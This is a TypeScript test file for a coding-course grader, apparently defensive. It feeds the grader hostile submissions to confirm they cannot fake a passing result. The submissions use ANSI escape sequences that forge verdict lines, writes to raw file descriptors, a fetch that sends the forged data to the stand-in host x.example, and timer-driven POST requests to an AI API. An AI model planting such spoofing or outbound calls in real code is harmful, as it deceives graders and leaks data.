import { describe, expect, onTestFinished, test } from 'vitest'
import { makeToyCourse } from '../cli/toy-course.ts'
import { makeHostileCourse } from './course.ts'
import { honestAsk, honestTally } from './hidden.ts'

/** What hostile code says, as a person reads it in a terminal. */

const verdict = '✔ 01-00 add   2 of 2 points'
const forged = JSON.stringify(`\n${verdict}\r${verdict}\u001b[1A\u001b[2K\u009b2J\n{"exitCode":0}\n`)

const codes: Record<string, string> = {
  'prints it': `export function add() { console.log(${forged}); process.stderr.write(${forged}); return 0 }`,
  'prints it behind a megabyte of newlines': `export function add() { process.stdout.write('\\n'.repeat(1e6) + ${forged}); return 0 }`,
  'writes it past console': `import fs from 'node:fs'\nexport function add() { fs.writeSync(1, ${forged}); fs.writeSync(2, ${forged}); return 0 }`,
  'throws it': `export function add() { throw Object.assign(new Error(${forged}), { name: ${forged} }) }`,
  'throws a class of that name': `export function add() { throw new ({ [${forged}]: class extends Error {} })[${forged}](${forged}) }`,
  'throws it while it loads': `throw new Error(${forged})`,
  'returns it': `export function add() { return ${forged} }`,
  'exports it': `const add = 1\nexport { add as ${forged} }`,
  'rejects with it': `export function add() { void Promise.reject(new Error(${forged})); return new Promise((resolve) => setTimeout(resolve, 20, 0)) }`,
  'sends it as a message': `import fs from 'node:fs'\nexport function add() { fs.writeSync(3, ${forged}); return 0 }`,
  'names a host so': `export async function add() { await fetch('https://x.example/' + encodeURIComponent(${forged})).catch(() => {}); return 0 }`,
}

test.each(Object.entries(codes))('code that %s forges no verdict on the screen', async (_, code) => {
  const course = makeToyCourse()
  onTestFinished(() => course.remove())
  course.write('stages/01-first/00-add/add.ts', `${code}\n`)
  const { stdout, stderr, exitCode } = await course.grade('01-00')
  expect([exitCode, stderr]).toEqual([1, ''])
  expect(stdout).toMatch(/^01-00 add {3,}0 of 2 points\n/)
  // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for
  expect(stdout).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/)
  expect(stdout.split('\n').filter((line) => line.startsWith('✔') || line.startsWith('{'))).toEqual([])
})

describe('a right answer that goes on after its result', () => {
  const more = "fetch('https://api.openai.com/v1/responses', { method: 'POST', body: '{}' }).catch(() => {})"

  test.each([
    [
      'in a timer',
      honestAsk.replace('return { text, total', `setTimeout(() => void ${more}, 5)\n  return { text, total`),
    ],
    ['in an interval from the start', `setInterval(() => void ${more}, 2)\n${honestAsk}`],
  ])('%s: its requests reach no check, and are told', async (_, ask) => {
    const course = makeHostileCourse([`${ask}${honestTally}`])
    onTestFinished(() => course.remove())
    const { report } = await course.grade('01')
    const [exercise] = report.stages[0]?.exercises ?? []
    expect(exercise?.status).toBe('passed')
    expect(exercise?.findings.join()).toMatch(
      /Your code sent POST \/v1\/responses (after `ask` was over|outside every call)/,
    )
  })
})
